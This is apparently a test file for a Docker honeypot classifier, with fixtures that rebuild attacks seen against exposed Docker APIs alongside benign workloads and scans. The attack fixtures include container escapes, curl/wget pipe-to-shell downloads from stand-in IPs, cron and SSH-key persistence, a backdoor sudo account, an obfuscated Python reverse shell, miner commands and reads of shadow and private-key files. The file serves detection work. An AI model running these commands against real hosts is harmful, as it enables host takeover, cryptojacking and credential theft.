import assert from "node:assert/strict";
import { test } from "node:test";
import { gzipSync } from "node:zlib";
import { tarOf } from "../../../test/support/tar.ts";
import { reportSession, type VisitRequest } from "./index.ts";

type Sent = {
  readonly method: string;
  readonly target: string;
  readonly agent?: string;
  readonly body?: unknown;
  readonly raw?: Buffer;
  readonly headers?: Readonly<Record<string, string>>;
  readonly stream?: string;
};

const HOST = "203.0.113.5:2375";
const GO = "Go-http-client/1.1";
const CLI = "Docker-Client/24.0.7 (linux)";

const get = (target: string): Sent => ({ method: "GET", target });
const post = (target: string, body?: unknown): Sent => ({ method: "POST", target, body });
const create = (body: object, name = ""): Sent =>
  post(`/v1.41/containers/create${name === "" ? "" : `?name=${name}`}`, body);
const start: Sent = post("/v1.41/containers/made/start");
const shell = (script: string, more: object = {}): Sent =>
  create({ Image: "alpine", Cmd: ["sh", "-c", script], ...more });
const exec = (container: string, script: string): Sent =>
  post(`/v1.41/containers/${container}/exec`, { Cmd: ["sh", "-c", script], AttachStdout: true });

function report(sent: readonly Sent[], agent: string) {
  let made = 0;
  const requests = sent.map(({ method, target, body, raw, headers = {}, stream }, index): VisitRequest => {
    const bytes = raw ?? (body === undefined ? undefined : Buffer.from(JSON.stringify(body)));
    const creates = target.includes("/containers/create");
    return {
      number: index + 1,
      time: "2026-11-23T02:11:04.000Z",
      connection: "c1",
      method,
      target: target.replace("/made/", `/${"ab".repeat(32)}/`),
      headers: Object.entries({ Host: HOST, ...(agent !== "" && { "User-Agent": agent }), ...headers }),
      body: bytes,
      bodyBytes: bytes?.length ?? 0,
      status: 200,
      ...(stream !== undefined && { stream: Buffer.from(stream) }),
      ...(creates && { created: { containerId: made++ === 0 ? "ab".repeat(32) : "cd".repeat(32) } }),
    };
  });
  return reportSession({ id: "t", started: "", ended: "", address: "198.51.100.9", connections: 1, requests });
}

const b64 = (text: string): string => Buffer.from(text).toString("base64");
const ROOT = { HostConfig: { Binds: ["/:/mnt"] } };

/** Shapes of attacks from published reports, rebuilt: name, requests, techniques, indicators. */
const ATTACKS: readonly (readonly [
  name: string,
  sent: readonly Sent[],
  attack: readonly string[],
  indicators: readonly string[],
  agent?: string,
])[] = [
  [
    "privileged, host pid, nsenter in an exec, base64",
    [
      create(
        { Image: "ubuntu:mantic-20240405", HostConfig: { Privileged: true, PidMode: "host" }, Cmd: ["sleep", "1d"] },
        "kube-edagent",
      ),
      start,
      exec(
        "made",
        `nsenter --mount=/proc/1/ns/mnt --ipc=/proc/1/ns/ipc -- bash -c 'echo ${b64("curl -fsSL http://192.0.2.44/php -o /tmp/httpd; chmod +x /tmp/httpd; /tmp/httpd")} | base64 -d | bash'`,
      ),
    ],
    ["T1611", "T1609", "T1036.005", "T1140", "T1105"],
    ["ipv4=192.0.2.44", "url=http://192.0.2.44/php", "container-name=kube-edagent", "host-path=/tmp/httpd"],
  ],
  [
    "release_agent from a privileged container",
    [
      shell(
        'mkdir /tmp/c && mount -t cgroup -o rdma cgroup /tmp/c && mkdir /tmp/c/x && echo 1 > /tmp/c/x/notify_on_release && echo "$host_path/cmd" > /tmp/c/release_agent',
        { HostConfig: { Privileged: true } },
      ),
      start,
    ],
    ["T1610", "T1611"],
    ["image=alpine"],
  ],
  [
    "package, download, run",
    [
      create({
        Image: "ubuntu",
        Cmd: [
          "bash",
          "-c",
          "apt-get update; apt-get install -y wget; wget http://198.51.100.20/linux_amd64 -O /tmp/.x; chmod 777 /tmp/.x; /tmp/.x",
        ],
      }),
      start,
    ],
    ["T1610", "T1105", "T1498", "T1564.001", "T1222.002"],
    ["url=http://198.51.100.20/linux_amd64", "ipv4=198.51.100.20"],
  ],
  [
    "auto.sh",
    [
      create({
        Image: "ubuntu:16.04",
        Cmd: ["sh", "-c", "apt-get install -y curl && curl -s http://files.example.org/auto.sh | bash"],
      }),
      start,
    ],
    ["T1610", "T1105", "T1059.004", "T1496"],
    ["domain=files.example.org", "url=http://files.example.org/auto.sh"],
  ],
  [
    "image of a mining account",
    [
      post("/v1.40/images/create?fromImage=exampleuser/centos&tag=7.6.1810"),
      create({ Image: "exampleuser/centos:7.6.1810", Entrypoint: ["/var/sbin/bash"] }),
      start,
    ],
    ["T1610", "T1204.003", "T1036.005"],
    ["image=exampleuser/centos:7.6.1810"],
  ],
  [
    "throw-away image, nothing else",
    [
      post("/v1.43/images/create?fromImage=exampleuser328832/tool_latest&tag=latest"),
      create({ Image: "exampleuser328832/tool_latest:latest" }),
      start,
    ],
    ["T1610", "T1204.003", "T1496"],
    ["image=exampleuser328832/tool_latest:latest"],
  ],
  [
    "exec into what is there, bot binary",
    [
      get("/v1.24/containers/json"),
      exec("0123456789ab", "cd /tmp; wget http://192.0.2.60/8uc -O mysqld; chmod +x mysqld; ./mysqld"),
      exec("ba9876543210", "cd /tmp; wget http://192.0.2.60/8uc -O mysqld; chmod +x mysqld; ./mysqld"),
    ],
    ["T1613", "T1609", "T1105"],
    ["url=http://192.0.2.60/8uc"],
  ],
  [
    "build on the victim, script hidden in the Dockerfile",
    [
      {
        method: "POST",
        target: "/v1.40/build?t=abc&nocache=1",
        raw: tarOf([
          {
            path: "Dockerfile",
            mode: 0o644,
            data: Buffer.from(
              `FROM alpine\nRUN echo ${b64("wget -qO- http://198.51.100.77/z.sh | sh")} | base64 -d | sh\n`,
            ),
          },
        ]),
      },
      create({ Image: "abc" }),
      start,
    ],
    ["T1612", "T1140", "T1105"],
    ["url=http://198.51.100.77/z.sh"],
  ],
  [
    "build from an address",
    [post("/v1.40/build?remote=http://192.0.2.33/ctx.tar.gz&t=x")],
    ["T1612"],
    ["url=http://192.0.2.33/ctx.tar.gz"],
  ],
  [
    "gRPC and a miner",
    [
      get("/version"),
      { method: "POST", target: "/grpc", headers: { Upgrade: "h2c", Connection: "Upgrade" } },
      create({
        Image: "debian:bookworm-slim",
        Cmd: [
          "bash",
          "-c",
          "wget https://github.com/doktor83/SRBMiner-Multi/releases/download/2.4/SRBMiner.tar.gz; ./SRBMiner-MULTI --algorithm ghostrider --pool pool.example.com:17029 --wallet rEXAMPLE0000000000000000000000 --password x",
        ],
      }),
      start,
    ],
    ["T1612", "T1496", "T1610"],
    ["pool=pool.example.com:17029", "wallet=rEXAMPLE0000000000000000000000"],
  ],
  [
    "host cron through a bind",
    [shell("echo '*/5 * * * * root curl http://192.0.2.5/a.sh|sh' > /mnt/etc/cron.d/update", ROOT), start],
    ["T1611", "T1053.003", "T1105"],
    ["host-path=/etc/cron.d/update", "url=http://192.0.2.5/a.sh"],
  ],
  [
    "account, sudo, sshd through chroot",
    [
      create({
        Image: "alpine",
        Cmd: [
          "chroot",
          "/mnt",
          "sh",
          "-c",
          "adduser -D akay; echo 'akay ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers; echo akay:secret1 | chpasswd; sed -i 's/#PasswordAuthentication/PasswordAuthentication/' /etc/ssh/sshd_config; wget -O- http://192.0.2.8/autom.sh | sh",
        ],
        ...ROOT,
      }),
      start,
    ],
    ["T1136.001", "T1548.003", "T1611", "T1098", "T1021.004"],
    ["user=akay", "credential=akay:secret1", "host-path=/etc/sudoers", "host-path=/etc/ssh/sshd_config"],
  ],
  [
    "own tool in /usr/bin, fetched through /dev/tcp",
    [
      shell(
        "chroot /mnt bash -c 'exec 3<>/dev/tcp/192.0.2.90/80; echo -e \"GET /d/c.sh HTTP/1.0\\n\" >&3; cat <&3 > /usr/bin/vurl; chmod +x /usr/bin/vurl'",
        ROOT,
      ),
      start,
    ],
    ["T1611", "T1105", "T1059.004"],
    ["ipv4=192.0.2.90", "host-path=/usr/bin/vurl"],
  ],
  [
    "rivals locked out",
    [
      shell(
        "chroot /hostroot sh -c 'iptables -A INPUT -p tcp --dport 2375 -j DROP; firewall-cmd --permanent --add-rich-rule=\"rule family=ipv4 port port=2375 protocol=tcp reject\"; apt install masscan; echo ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAA x@y.example >> /root/.ssh/authorized_keys'",
        { HostConfig: { Binds: ["/:/hostroot"] } },
      ),
      start,
    ],
    ["T1562.004", "T1098.004", "T1046", "T1611"],
    ["ssh-key=ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAA x@y.example", "host-path=/root/.ssh/authorized_keys"],
  ],
  [
    "typed into an attached terminal",
    [
      create({ Image: "alpine", Cmd: ["sh"], Tty: true, OpenStdin: true, ...ROOT }),
      {
        ...post("/v1.41/containers/made/attach?stream=1&stdin=1"),
        stream: "cat /mnt/etc/shaow\u007f\u007fdow\rcat /mnt/root/.ssh/id_rsa\r",
      },
      start,
    ],
    ["T1609", "T1552.004", "T1003.008"],
    [],
  ],
  [
    "reverse shell in Python, packed",
    [
      create({
        Image: "python:3-alpine",
        Cmd: [
          "python3",
          "-c",
          `import base64,zlib;exec(zlib.decompress(base64.b64decode('${gzipSync(Buffer.from("import os;os.system('bash -i >& /dev/tcp/192.0.2.71/4444 0>&1')")).toString("base64")}')))`,
        ],
      }),
      start,
    ],
    ["T1059.006", "T1140"],
    ["ipv4=192.0.2.71"],
  ],
  [
    "letters turned round, pieces joined",
    [shell("a=cu;b=rl;u=$(echo hs.x/19.2.0.291//:ptth | rev); $a$b -s $u | sh"), start],
    ["T1105", "T1059.004"],
    ["url=http://192.0.2.91/x.sh"],
  ],
  [
    "hexadecimal and printf",
    [
      shell(`printf '${Buffer.from("curl http://192.0.2.92/h | sh").toString("hex").replace(/../g, "\\x$&")}' | sh`),
      start,
    ],
    ["T1140", "T1105"],
    ["url=http://192.0.2.92/h"],
  ],
  [
    "volume that stands for the host",
    [
      post("/v1.41/volumes/create", {
        Name: "v",
        Driver: "local",
        DriverOpts: { type: "none", o: "bind", device: "/" },
      }),
      create({
        Image: "alpine",
        Cmd: ["sh", "-c", "echo x >> /h/root/.ssh/authorized_keys"],
        HostConfig: { Binds: ["v:/h"] },
      }),
      start,
    ],
    ["T1611", "T1098.004"],
    ["host-path=/root/.ssh/authorized_keys"],
  ],
  [
    "miner by its arguments, image of a good name",
    [
      create({
        Image: "ubuntu",
        Cmd: ["./app", "-o", "stratum+tcp://pool.example.net:3333", "-u", "4EXAMPLEWALLET000000", "-p", "x"],
      }),
      start,
    ],
    ["T1496"],
    ["pool=pool.example.net:3333", "wallet=4EXAMPLEWALLET000000", "domain=pool.example.net"],
  ],
  [
    "host configuration with the start, as old clients do",
    [
      create({ Image: "ubuntu", Cmd: ["sh", "-c", "echo k >> /m/root/.ssh/authorized_keys"] }),
      post("/v1.16/containers/made/start", { Binds: ["/:/m"], Privileged: true }),
    ],
    ["T1611"],
    [],
  ],
  [
    "key names in other letters",
    [
      post("/v1.41/containers/create", {
        image: "alpine",
        cmd: ["chroot", "/x", "sh", "-c", "curl http://192.0.2.3/a|sh"],
        hostconfig: { privileged: true, binds: ["/:/x"] },
      }),
      start,
    ],
    ["T1611", "T1105"],
    ["url=http://192.0.2.3/a"],
  ],
  [
    "no user agent, host disk, chroot",
    [create({ Image: "busybox", Cmd: ["chroot", "/mnt", "sh"], ...ROOT }), start],
    ["T1611"],
    [],
    "",
  ],
  [
    "proxyware from its own publisher",
    [create({ Image: "traffmonetizer/cli_v2", Cmd: ["start", "accept", "--token", "EXAMPLE0123456789="] }), start],
    ["T1496", "T1204.003"],
    ["credential=EXAMPLE0123456789=", "image=traffmonetizer/cli_v2"],
  ],
  [
    "a bot of many architectures",
    [
      exec(
        "0123456789ab",
        "for a in mips arm7 x86; do wget http://198.51.100.3/bins/$a.bot -O /tmp/b; chmod 777 /tmp/b; /tmp/b; done; rm -rf /tmp/b; history -c",
      ),
    ],
    ["T1498", "T1105", "T1070.003"],
    ["ipv4=198.51.100.3"],
  ],
];

for (const [name, sent, attack, indicators, agent = GO] of ATTACKS) {
  test(`attack: ${name}`, () => {
    const result = report(sent, agent);
    const ids = result.attack.map(({ id }) => id);
    const found = result.indicators.map(({ type, value }) => `${type}=${value}`);
    assert.equal(result.verdict, "malicious");
    for (const id of ["T1133", ...attack]) {
      assert.ok(
        ids.some((each) => each === id || each.startsWith(`${id}.`)),
        `${id} not in ${ids.join(" ")}`,
      );
    }
    for (const indicator of indicators) {
      assert.ok(found.includes(indicator), `${indicator} not in ${found.join(" ")}`);
    }
  });
}

const LABELS = { "com.docker.compose.project": "shop" };

/** Ordinary work, some of it dangerous by design. */
const HARMLESS: readonly (readonly [name: string, sent: readonly Sent[], agent?: string])[] = [
  ["docker ps", [{ method: "HEAD", target: "/_ping" }, get("/v1.43/containers/json")]],
  [
    "monitoring with stats",
    [get("/info"), get("/v1.24/containers/json"), get("/v1.24/containers/abc/stats?stream=0")],
    GO,
  ],
  [
    "cAdvisor",
    [
      create(
        {
          Image: "gcr.io/cadvisor/cadvisor:v0.49.1",
          HostConfig: {
            Privileged: true,
            Binds: [
              "/:/rootfs:ro",
              "/var/run:/var/run:ro",
              "/sys:/sys:ro",
              "/var/lib/docker/:/var/lib/docker:ro",
              "/dev/disk/:/dev/disk:ro",
            ],
            Devices: [{ PathOnHost: "/dev/kmsg" }],
          },
        },
        "cadvisor",
      ),
      start,
    ],
  ],
  [
    "Portainer",
    [
      create(
        {
          Image: "portainer/portainer-ce:latest",
          HostConfig: {
            Binds: ["/var/run/docker.sock:/var/run/docker.sock", "portainer_data:/data"],
            PortBindings: { "9443/tcp": [{ HostPort: "9443" }] },
            RestartPolicy: { Name: "always" },
          },
        },
        "portainer",
      ),
      start,
    ],
  ],
  [
    "Portainer looks around",
    [
      get("/_ping"),
      get("/info"),
      get("/version"),
      get("/containers/json?all=1"),
      get("/images/json"),
      get("/volumes"),
      get("/networks"),
    ],
    GO,
  ],
  [
    "Watchtower",
    [
      create({ Image: "containrrr/watchtower", HostConfig: { Binds: ["/var/run/docker.sock:/var/run/docker.sock"] } }),
      start,
    ],
    GO,
  ],
  [
    "Traefik with the socket",
    [
      create({
        Image: "traefik:v3.1",
        Cmd: ["--providers.docker", "--api.insecure=true"],
        HostConfig: {
          Binds: ["/var/run/docker.sock:/var/run/docker.sock:ro"],
          PortBindings: { "80/tcp": [{ HostPort: "80" }] },
        },
      }),
      start,
    ],
  ],
  [
    "Testcontainers",
    [
      get("/info"),
      create({
        Image: "testcontainers/ryuk:0.9.0",
        HostConfig: { AutoRemove: true, Privileged: true, Binds: ["/var/run/docker.sock:/var/run/docker.sock"] },
        Labels: { "org.testcontainers": "true" },
      }),
      start,
      create({ Image: "postgres:16", Env: ["POSTGRES_PASSWORD=test"], Labels: { "org.testcontainers": "true" } }),
    ],
    "tc-java/1.20.1",
  ],
  [
    "Docker in Docker for CI",
    [
      create({ Image: "docker:27-dind", HostConfig: { Privileged: true } }),
      start,
      create({
        Image: "gitlab/gitlab-runner:alpine",
        HostConfig: {
          Binds: ["/var/run/docker.sock:/var/run/docker.sock", "/srv/gitlab-runner/config:/etc/gitlab-runner"],
        },
      }),
    ],
  ],
  [
    "Datadog agent",
    [
      create({
        Image: "gcr.io/datadoghq/agent:7",
        Env: ["DD_API_KEY=0123456789abcdef0123456789abcdef"],
        HostConfig: {
          Binds: [
            "/var/run/docker.sock:/var/run/docker.sock:ro",
            "/proc/:/host/proc/:ro",
            "/sys/fs/cgroup/:/host/sys/fs/cgroup:ro",
          ],
        },
      }),
      start,
    ],
  ],
  [
    "WireGuard",
    [
      create({
        Image: "linuxserver/wireguard",
        HostConfig: { CapAdd: ["NET_ADMIN", "SYS_MODULE"], Binds: ["/lib/modules:/lib/modules:ro", "/srv/wg:/config"] },
      }),
      start,
    ],
  ],
  [
    "a developer with a project directory",
    [
      create({
        Image: "node:20",
        Cmd: ["sh", "-c", "npm ci && npm test"],
        HostConfig: { Binds: ["/home/dev/app:/app"], AutoRemove: true },
      }),
      start,
    ],
  ],
  [
    "a developer in a shell",
    [
      create({ Image: "ubuntu", Cmd: ["bash"], Tty: true, OpenStdin: true }),
      start,
      {
        ...post("/v1.43/containers/made/attach?stream=1"),
        stream: "ls\rapt-get update\rapt-get install -y curl\rcurl -I https://example.com\rexit\r",
      },
    ],
  ],
  ["a developer reads the environment", [exec("web", "env | sort")]],
  [
    "a build with an installer over TLS",
    [
      {
        method: "POST",
        target: "/v1.43/build?t=app",
        raw: tarOf([
          {
            path: "Dockerfile",
            mode: 0o644,
            data: Buffer.from(
              'FROM debian:12\nRUN apt-get update && apt-get install -y curl \\\n && curl -fsSL https://deb.nodesource.com/setup_20.x | bash - && rm -rf /var/lib/apt/lists/*\nRUN useradd -m app && chown -R app /srv && chmod +x /srv/start.sh\nUSER app\nCMD ["node", "server.js"]\n',
            ),
          },
        ]),
      },
      create({ Image: "app", HostConfig: { PortBindings: { "3000/tcp": [{ HostPort: "3000" }] } } }),
      start,
    ],
  ],
  [
    "a build behind BuildKit",
    [
      { method: "POST", target: "/grpc", headers: { Upgrade: "h2c" } },
      { method: "POST", target: "/session", headers: { Upgrade: "h2c" } },
    ],
  ],
  [
    "docker cp",
    [
      { method: "HEAD", target: "/v1.43/containers/web/archive?path=%2Fetc%2Fnginx" },
      {
        method: "PUT",
        target: "/v1.43/containers/web/archive?path=%2Fetc%2Fnginx",
        raw: tarOf([{ path: "nginx.conf", mode: 0o644, data: Buffer.from("worker_processes 1;\n") }]),
      },
    ],
  ],
  [
    "Compose with an own image",
    [
      create(
        {
          Image: "acme/shop-api:1.4",
          Labels: LABELS,
          HostConfig: { NetworkMode: "shop_default", PortBindings: { "8080/tcp": [{ HostPort: "8080" }] } },
        },
        "shop-api-1",
      ),
      start,
    ],
    "compose/2.29",
  ],
  [
    "an image of one's own on the Hub",
    [
      create({ Image: "maria/blog:3", HostConfig: { PortBindings: { "80/tcp": [{ HostPort: "8081" }] } } }, "blog"),
      start,
    ],
  ],
  [
    "a private registry, with a login",
    [
      {
        ...post("/v1.43/images/create?fromImage=registry.example.com/team/app&tag=1.2"),
        headers: { "X-Registry-Auth": b64('{"username":"ci","password":"secret"}') },
      },
      create({
        Image: "registry.example.com/team/app:1.2",
        Env: ["DB=postgres"],
        HostConfig: { RestartPolicy: { Name: "always" } },
      }),
      start,
    ],
  ],
  [
    "a backup of a volume",
    [
      create({
        Image: "alpine",
        Cmd: ["tar", "czf", "/backup/db.tgz", "/data"],
        HostConfig: { Binds: ["db:/data:ro", "/srv/backup:/backup"], AutoRemove: true },
      }),
      start,
    ],
  ],
  ["a database restore", [exec("db", "gunzip -c /backup/dump.sql.gz | psql -U postgres")]],
  [
    "a health check with curl",
    [create({ Image: "nginx", Healthcheck: { Test: ["CMD-SHELL", "curl -f http://localhost/ || exit 1"] } }), start],
  ],
  [
    "remove one's containers",
    [
      { method: "DELETE", target: "/v1.43/containers/web?force=1" },
      { method: "DELETE", target: "/v1.43/containers/db?force=1" },
    ],
  ],
];

for (const [name, sent, agent = CLI] of HARMLESS) {
  test(`harmless: ${name}`, () => {
    const result = report(sent, agent);
    assert.equal(result.verdict, "benign", JSON.stringify(result.reasons.map(({ text }) => text.en)));
    assert.deepEqual([result.attack, result.indicators], [[], []]);
  });
}

/** Visits that only look. */
const LOOKING: readonly (readonly [name: string, sent: readonly Sent[], agent: string])[] = [
  ["a census", [get("/version")], "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)"],
  [
    "a probe of everything",
    [get("/_ping"), get("/version"), get("/info"), get("/containers/json"), get("/images/json")],
    "curl/7.88.1",
  ],
  ["a probe in Go", [get("/v1.16/version"), get("/containers/json")], GO],
  ["the web's noise", [get("/"), get("/favicon.ico")], "Mozilla/5.0 zgrab/0.x"],
  ["a probe in Python without an agent", [get("/version"), get("/containers/json?all=1")], ""],
];

for (const [name, sent, agent] of LOOKING) {
  test(`looking: ${name}`, () => {
    const result = report(sent, agent);
    assert.equal(result.verdict, "recon", JSON.stringify(result.reasons.map(({ text }) => text.en)));
    assert.ok(result.attack.some(({ id }) => id === "T1595.001"));
    assert.deepEqual(result.indicators, []);
  });
}
